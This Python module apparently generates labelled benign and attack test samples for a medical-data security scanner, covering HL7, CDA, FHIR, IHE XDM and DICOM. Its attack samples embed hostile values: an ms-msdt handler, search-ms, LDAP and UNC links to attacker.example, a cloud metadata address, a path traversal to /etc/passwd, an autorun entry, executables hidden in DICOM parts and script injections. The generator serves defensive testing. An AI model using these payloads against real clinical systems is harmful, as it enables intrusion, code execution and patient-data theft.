"""Samples of version 3 in records: submissions of IHE XDM, other patients, instructions, schemes, DICOM in JSON, parts.

Source: IHE ITI XDM 3.32.4.1, CDA R2 4.3, XML 1.0 section 2.6 (instructions), HL7 v2.xml, FHIR R4 Attachment.url, PS3.18
annex F (DICOM JSON) and 8.6 (multipart), RFC 3986 (schemes).
"""

from __future__ import annotations

import base64
import json
import random
from collections.abc import Iterator

from safecare.testing.medical_attacks.carriers import cda, ed, fhir, narrative, non_xml, oru, section
from safecare.testing.medical_attacks.dicom import image
from safecare.testing.medical_attacks.payloads import SCRIPTS, TEXTS, elf, pdf, pe, zipped
from safecare.testing.medical_attacks.sample import Label, Sample
from safecare.testing.medical_attacks.wider import patient, told_of

SCHEMES = {
    "search": "search-ms:query=cr&crumb=location:\\\\attacker.example\\s",
    "handler": "ms-msdt:/id PCWDiagnostic /param SAFECARE",
    "lookup": "ldap://attacker.example/a",
    "host": "http://169.254.169.254/latest/meta-data/",
}
"""Addresses that lead to a program, a lookup, or the services of the machine's host."""


def _one(family: str, technique: str, variant: str, what: str, raw: bytes, twin: str = "", ending: str = "") -> Sample:
    ending = ending or {"hl7": "hl7", "cda": "xml", "fhir": "json"}[family]
    label: Label = "attack" if twin else "benign"
    name = f"{family}-{technique}-{variant}.{ending}" if twin else f"{family}-benign-{variant}.{ending}"
    return Sample(
        name=name,
        label=label,
        family=family,
        technique=technique,
        what=what,
        raw=raw,
        twin=f"{family}-benign-{twin}" if twin else "",
    )


def messages(_: random.Random) -> Iterator[Sample]:
    """Yield messages about one patient that carry another's document, and scripts in messages as XML."""
    body = non_xml(pdf(""))
    same, other = told_of(patient(), body), told_of(patient("AUTRE", "CAMILLE", "19451224", "T000043"), body)
    for variant, raw in {"patient": same, "patient-married": told_of(patient("DUPONT", "Alix"), body)}.items():
        yield _one("hl7", "patient", variant, "A document of the same patient.", oru(ed(raw, "text^XML")))
    what = "A document of another patient."
    yield _one("hl7", "patient", "other", what, oru(ed(other, "text^XML")), "patient.hl7")
    yield _one(
        "hl7", "patient", "other-zip", what, oru(ed(zipped({"cr.xml": other}), "application^zip")), "patient.hl7"
    )

    def as_xml(value: str) -> bytes:
        return (
            '<?xml version="1.0" encoding="UTF-8"?><ORU_R01 xmlns="urn:hl7-org:v2xml"><MSH><MSH.1>|</MSH.1></MSH>'
            f"<OBX><OBX.2>TX</OBX.2><OBX.5>{value}</OBX.5></OBX></ORU_R01>"
        ).encode()

    yield _one(
        "hl7", "xml", "xml-text", "Words in a message as XML.", as_xml("TSH &lt; 0,01 &amp; T4 &gt; 20"), "", "xml"
    )
    for variant, text in {
        "escaped": "&lt;script&gt;eval(name)&lt;/script&gt;",
        "powershell": SCRIPTS["powershell"].decode(),
        "lookup": TEXTS["lookup"],
    }.items():
        yield _one("hl7", "xml", f"xml-{variant}", "A script in a message as XML.", as_xml(text), "xml-text.xml", "xml")


def documents(_: random.Random) -> Iterator[Sample]:
    """Yield CDA documents with instructions, schemes and commands; and submissions with what has no place in them."""
    text = section("<paragraph>Sans particularité ; PowerShell n'est pas un soin.</paragraph>")
    model = '<?xml-model href="CI-SIS.sch" type="application/xml"?>\n'
    yield _one("cda", "instruction", "model", "An instruction that names a schema.", cda(text, model))
    for variant, told in {
        "php": "<?php echo 'SAFECARE-INERT-TEST'; ?>\n",
        "office": '<?mso-application progid="Word.Document"?>\n',
    }.items():
        yield _one("cda", "instruction", variant, "An instruction makes a program act.", cda(text, told), "model.xml")
    for name in ("powershell", "lookup", "eval", "shell"):
        held = section(f"<paragraph>{TEXTS[name]}</paragraph>")
        yield _one("cda", "command", name, "A command in the narrative.", cda(held), "model.xml")
    for variant, url in SCHEMES.items():
        yield _one("cda", "remote", f"scheme-{variant}", "A body that lies astray.", cda(_beside(url)), "reference.xml")
    yield _one("cda", "remote", "reference", "A body that lies beside the document.", cda(_beside("CR_42.PDF")))
    yield from _submissions()


def _beside(url: str) -> str:
    """Return a body that lies elsewhere."""
    told = url.replace("&", "&amp;")
    return f'<nonXMLBody><text mediaType="application/pdf"><reference value="{told}"/></text></nonXMLBody>'


def _submissions() -> Iterator[Sample]:
    body = non_xml(pdf(""))
    mine, other = told_of(patient(), body), told_of(patient("AUTRE", "CAMILLE", "19451224", "T000043"), body)
    page = "<html><body><h1>Lot IHE_XDM</h1><p>Document 1</p></body></html>"

    def made(
        document: bytes, index: str = page, uri: str = "DOC0001.XML", more: dict[str, bytes] | None = None
    ) -> bytes:
        metadata = (
            '<?xml version="1.0"?><SubmitObjectsRequest xmlns="urn:oasis:names:tc:ebxml-regrep:xsd:lcm:3.0">'
            f'<Slot name="URI"><ValueList><Value>{uri}</Value></ValueList></Slot>'
            '<Slot name="sourcePatientInfo"><ValueList>'
            "<Value>PID-5|EXEMPLE^ALIX^^^^^L</Value><Value>PID-7|19700101</Value></ValueList></Slot>"
            "</SubmitObjectsRequest>"
        )
        folder = "IHE_XDM/SUBSET01/"
        return zipped(
            {
                "INDEX.HTM": index.encode(),
                "README.TXT": b"Emetteur : hopital.example\r\n",
                folder + "METADATA.XML": metadata.encode(),
                folder + "DOC0001.XML": document,
                **(more or {}),
            }
        )

    yield _one("cda", "submission", "xdm", "A submission of one document.", made(mine), "", "zip")
    sheet = mine.replace(b"?>\n", b'?>\n<?xml-stylesheet type="text/xsl" href="CDA.xsl"?>\n', 1)
    yield _one("cda", "submission", "xdm-sheet", "A submission with its own stylesheet.", made(sheet), "", "zip")
    script = page.replace("<h1>", "<script>eval(name)</script><h1>")
    for variant, raw in {
        "page-script": made(mine, script),
        "page-frame": made(mine, page.replace("<h1>", '<iframe src="https://attacker.example/"></iframe><h1>')),
        "climbs": made(mine, uri="../../../../etc/passwd"),
        "other-patient": made(other),
        "program": made(mine, more={"VISU.EXE": pe()}),
        "autorun": made(mine, more={"AUTORUN.INF": b"[autorun]\r\nopen=VISU.EXE\r\n"}),
        "document-program": made(told_of(patient(), non_xml(pe()))),
        "no-document": made(SCRIPTS["hta"]),
    }.items():
        yield _one("cda", "submission", variant, "A submission with what has no place in it.", raw, "xdm.zip", "zip")


def resources(_: random.Random) -> Iterator[Sample]:
    """Yield resources that lead astray, bundles of two patients, DICOM in JSON with scripts."""

    def attached(url: str) -> bytes:
        content = [{"attachment": {"contentType": "application/pdf", "url": url}}]
        return fhir({"resourceType": "DocumentReference", "status": "current", "content": content})

    yield _one("fhir", "remote", "viewer", "An attachment in a viewer of the house.", attached("weasis://cr/42"))
    for variant, url in SCHEMES.items():
        yield _one(
            "fhir", "remote", f"scheme-{variant}", "An attachment that lies astray.", attached(url), "viewer.json"
        )

    def asked(text: str) -> bytes:
        return fhir({"resourceType": "Questionnaire", "status": "active", "description": text})

    yield _one(
        "fhir", "text", "markdown", "Words with marks.", asked("# Titre\n[HAS](https://has-sante.example) **oui** <5")
    )
    for variant, text in {
        "file": "![x](file://attacker.example/s/a.png)",
        "share": "[voir](\\\\attacker.example\\s)",
        "script": "[voir](javascript:eval(name))",
    }.items():
        yield _one("fhir", "text", f"markdown-{variant}", "A link in words with marks.", asked(text), "markdown.json")
    body = non_xml(pdf(""))
    me = {"resourceType": "Patient", "name": [{"family": "Exemple", "given": ["Alix"]}], "birthDate": "1970-01-01"}
    for variant, who in {"same": patient(), "other": patient("AUTRE", "CAMILLE", "19451224", "T000043")}.items():
        data = base64.b64encode(told_of(who, body)).decode()
        report = {
            "resourceType": "DocumentReference",
            "status": "current",
            "content": [{"attachment": {"contentType": "text/xml", "data": data}}],
        }
        raw = fhir({"resourceType": "Bundle", "type": "collection", "entry": [{"resource": me}, {"resource": report}]})
        if variant == "same":
            yield _one("fhir", "patient", "bundle-same", "A document of the same patient.", raw)
        else:
            yield _one("fhir", "patient", "bundle-other", "A document of another patient.", raw, "bundle-same.json")
    for variant, value in {
        "words": "Nodule < 5 mm & stable",
        "handler": TEXTS["event-handler"],
        "shell": TEXTS["shell"],
    }.items():
        held = {
            "00080060": {"vr": "CS", "Value": ["CT"]},
            "00104000": {"vr": "LT", "Value": [value]},
        }
        raw = json.dumps([held]).encode()
        if variant == "words":
            yield _one("fhir", "image", "image-words", "DICOM in JSON.", raw)
        else:
            yield _one("fhir", "image", f"image-{variant}", "A script in DICOM in JSON.", raw, "image-words.json")
    plain: dict[str, object] = {"data": {"Patient": narrative("<p>Titre</p>")}}
    yield _one("fhir", "text", "graph", "An answer of GraphQL.", fhir(plain))
    acts: dict[str, object] = {"data": {"Patient": narrative("<script>eval(name)</script>")}}
    yield _one("fhir", "text", "graph-script", "An answer of GraphQL whose narrative acts.", fhir(acts), "graph.json")


def parts(rng: random.Random) -> Iterator[Sample]:
    """Yield requests that store several files (PS3.18), one of them none."""

    def made(*files: tuple[str, bytes], head: bool = True) -> bytes:
        out = b'Content-Type: multipart/related; type="application/dicom"; boundary=PART\r\n\r\n' if head else b""
        for media, raw in files:
            out += b"--PART\r\nContent-Type: " + media.encode() + b"\r\n\r\n" + raw + b"\r\n"
        return out + b"--PART--\r\n"

    good = ("application/dicom", image(rng).write())
    yield _one("fhir", "parts", "parts", "Two images in one request.", made(good, good), "", "mime")
    yield _one("fhir", "parts", "parts-bare", "The same without its head.", made(good, good, head=False), "", "mime")
    for name, raw in {
        "pe": pe(),
        "preamble": image(rng, preamble=elf()[:128]).write(),
        "private": image(rng, items={(0x00091001, "OB"): pe()}).write(),
    }.items():
        bad = ("application/dicom", raw)
        yield _one("fhir", "parts", f"parts-{name}", "One part attacks.", made(good, bad), "parts.mime", "mime")
        bare = made(good, bad, head=False)
        yield _one("fhir", "parts", f"bare-{name}", "One part attacks.", bare, "parts-bare.mime", "mime")


FAMILIES = (messages, documents, resources, parts)
"""What `generate` calls, in this order."""
